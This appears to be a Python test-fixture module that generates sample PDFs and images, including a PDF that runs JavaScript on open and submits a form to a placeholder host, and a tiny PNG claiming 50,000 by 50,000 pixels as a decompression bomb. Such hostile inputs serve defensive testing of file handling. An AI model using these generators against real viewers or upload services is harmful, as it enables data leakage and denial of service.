"""Small papers made on the spot: PDFs and pictures as a scanner or a word processor would save them."""

import io
import struct
import zlib
from collections.abc import Sequence

from PIL import Image
from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen import canvas


def pdf(texts: Sequence[str] = ("first", "second", "third"), *, bookmarks: bool = False, password: str = "") -> bytes:
    """A page a text; each bookmarked by its own text where asked."""
    out = io.BytesIO()
    paper = canvas.Canvas(out, encrypt=StandardEncryption(password, "owner") if password else None)
    for number, text in enumerate(texts, start=1):
        if bookmarks:
            paper.bookmarkPage(f"p{number}")
            paper.addOutlineEntry(text, f"p{number}")
        paper.drawString(100, 700, text)
        paper.showPage()
    paper.save()
    return out.getvalue()


def with_script(script: str = "app.alert('run'); this.submitForm('http://example.org/');") -> bytes:
    """One page that would run a script when it is opened."""
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS ({script}) >> >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    text, places = "%PDF-1.7\n", []
    for number, body in enumerate(objects, start=1):
        places.append(len(text))
        text += f"{number} 0 obj\n{body}\nendobj\n"
    rows = "".join(f"{place:010} 00000 n \n" for place in places)
    text += f"xref\n0 4\n0000000000 65535 f \n{rows}trailer << /Size 4 /Root 1 0 R >>\nstartxref\n{len(text)}\n%%EOF"
    return text.encode()


def picture(kind: str = "PNG", size: tuple[int, int] = (120, 160), mode: str = "RGBA") -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, 0).save(out, kind)
    return out.getvalue()


def vast_picture() -> bytes:
    """A few bytes of a PNG that say they are 50,000 dots wide and high."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 0, 0, 0, 0)
    body = chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body
